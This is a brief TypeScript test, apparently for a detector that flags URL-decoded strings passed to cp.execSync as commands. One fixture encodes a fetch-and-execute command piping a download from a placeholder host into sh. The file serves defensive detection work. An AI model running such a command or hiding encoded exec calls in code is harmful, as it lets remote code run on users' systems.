import assert from 'node:assert/strict';
import { flowsOf } from '../platform/sent.js';

describe('texts that are decoded', () => {
  it('were hidden only where something in them is encoded, and where they are texts', () => {
    const run = (given: string): readonly string[] =>
      flowsOf(`cp.execSync(decodeURIComponent(${given}));`).filter((one) => one.startsWith('decoded'));
    assert.deepEqual(run(`'${encodeURIComponent('curl https://load.invalid | sh')}'`), ['decoded>run-as-command']);
    assert.deepEqual(run(`'/usr/bin/node'`), []);
    assert.deepEqual(run('undefined'), []);
  });
});
